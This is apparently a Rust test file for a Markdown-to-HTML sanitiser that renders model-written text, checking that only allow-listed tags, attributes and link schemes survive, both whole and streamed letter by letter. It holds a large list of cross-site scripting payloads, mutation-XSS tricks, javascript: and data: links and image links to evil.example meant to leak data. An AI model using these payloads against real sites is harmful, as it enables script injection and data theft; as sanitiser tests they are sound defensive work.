//! What a model writes is hostile until proven otherwise (CHECKS 21 and 22, the server's part): whatever the
//! Markdown, whole or letter by letter, the HTML has only what the allow-list names.

use hearth_backend::markdown::{StreamRenderer, render};

const TAGS: [&str; 26] = [
    "p",
    "br",
    "hr",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
];

/// Markdown that has run scripts or fetched something elsewhere.
fn hostile() -> Vec<String> {
    let mut cases: Vec<String> = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php <img src=x onerror=alert(1)> ?>",
        "<x\u{0}y><img src=x onerror=alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A&#x61;vascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](%6Aavascript:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](//evil.example)",
        "[x](\\\\evil.example)",
        "[x](/people)",
        "[x](?next=//evil.example)",
        "[x](#m-1)",
        "[x](https://a.example \"onmouseover=alert(1) \\\" onmouseover=alert(1) x=\\\"\")",
        "[x](https://a.example/\"onmouseover=\"alert(1))",
        "[x](<https://a.example/\"><img src=x onerror=alert(1)>)",
        "<javascript:alert(1)>",
        "<https://a.example/\"onmouseover=alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x][r]\n\n[r]: https://a.example '\"><img src=x onerror=alert(1)>'",
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example",
        "![![x](https://evil.example/1)](https://evil.example/2)",
        "[![x](javascript:alert(1))](javascript:alert(2))",
        "![\"onerror=alert(1)](x)",
        "```\"><img src=x onerror=alert(1)>\nx\n```",
        "``` x\" onmouseover=\"alert(1)\nx\n```",
        "```rust class=evil style=x\nx\n```",
        "```\n</code></pre><img src=x onerror=alert(1)>\n```",
        "    </code></pre><script>alert(1)</script>",
        "`</code><script>alert(1)</script>`",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| `<script>` | ![x](https://evil.example) |",
        "- [x] <input onfocus=alert(1) autofocus>\n- [ ] ![x](https://evil.example)",
        "<div class=scroll tabindex=0 onclick=alert(1)>x</div>",
        "<p style=\"background:url(https://evil.example)\">x</p>",
        "1. <li value=1 onclick=alert(1)>",
        "<b>*<b>*<i>_</b>_</i><table><tr>x<td><plaintext>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<title></title><img src=x onerror=alert(1)>",
        "\u{feff}<script>alert(1)</script>",
        "<scr\u{0}ipt>alert(1)</script>",
        "<ＳＣＲＩＰＴ>alert(1)</ＳＣＲＩＰＴ>",
        "\r\n<img\rsrc=x\ronerror=alert(1)>",
    ]
    .map(str::to_owned)
    .into();
    // Each of them also inside other blocks.
    for frame in ["> ", "- ", "1. ", "# ", "**", "| a |\n|---|\n| "] {
        let inside: Vec<_> = cases
            .iter()
            .take(71)
            .map(|case| format!("{frame}{case}"))
            .collect();
        cases.extend(inside);
    }
    cases
}

#[test]
fn whatever_a_model_writes_only_tame_elements_come_out() {
    for case in hostile() {
        check(&render(&case), &case);
    }
}

#[test]
fn letter_by_letter_no_moment_shows_more() {
    for case in hostile() {
        let mut renderer = StreamRenderer::default();
        for letter in case.chars() {
            renderer.push(letter.encode_utf8(&mut [0; 4]));
            renderer.advance();
            check(&(renderer.blocks().concat() + &renderer.tail()), &case);
        }
    }
}

/// Every tag is of the list, every attribute harmless, every link leads to a page elsewhere or to a letter.
fn check(html: &str, case: &str) {
    for tag in html.split('<').skip(1) {
        let Some((tag, _)) = tag.split_once('>') else {
            panic!("{case:?}: an open end in {html}")
        };
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap();
        if name == "input" {
            assert!(tag.contains("type=\"checkbox\""), "{case:?}: {html}");
        } else {
            assert!(TAGS.contains(&name), "{case:?}: <{tag}> in {html}");
        }
        for (attribute, value) in attributes(tag) {
            match attribute {
                "href" => assert!(
                    ["https://", "http://", "mailto:"]
                        .iter()
                        .any(|scheme| value.starts_with(scheme)),
                    "{case:?}: {value} in {html}"
                ),
                "rel" => assert_eq!(value, "noopener noreferrer nofollow", "{case:?}: {html}"),
                "target" => assert_eq!(value, "_blank", "{case:?}: {html}"),
                "class" => assert_eq!(value, "scroll", "{case:?}: {html}"),
                "title" | "start" | "data-language" | "tabindex" | "type" | "checked" | "disabled" => {}
                other => panic!("{case:?}: {other} in {html}"),
            }
        }
    }
}

/// The sanitiser writes every value in double quotes and escapes those inside.
fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut rest = tag
        .trim_start_matches('/')
        .split_once(' ')
        .map_or("", |(_, rest)| rest);
    let mut found = Vec::new();
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').expect("a value has an end");
        found.push((name.trim(), value));
        rest = after;
    }
    assert!(
        rest.trim().is_empty() || rest.trim() == "/",
        "attributes without a value: {tag}"
    );
    found
}

/// What a model that repeats itself writes until its window is full.
#[test]
fn endless_nesting_costs_no_more_than_as_much_text() {
    let opened = [
        "> ", "- ", "1. ", "> - ", "*a ", "[", "![", "**", "`", "<a ", "~~", "_a ", "|", "\\", "- [ ] ", ">",
        "#",
    ];
    let opened = opened.map(|opening| opening.repeat(20_000) + "x");
    let closed = [
        ("*a ", " a*"),
        ("**a ", " a**"),
        ("~~a ", " a~~"),
        ("![a", "](https://a.example)"),
        ("[a", "](b)"),
    ];
    let closed = closed.map(|(opening, closing)| opening.repeat(5_000) + "x" + &closing.repeat(5_000));
    for deep in opened.into_iter().chain(closed) {
        let html = render(&deep);
        let depth = html.split("</").next().unwrap().matches('<').count();
        assert!(depth < 100, "{deep:.20}: {depth} elements inside each other");
        check(&html, &deep[..20]);
    }
}
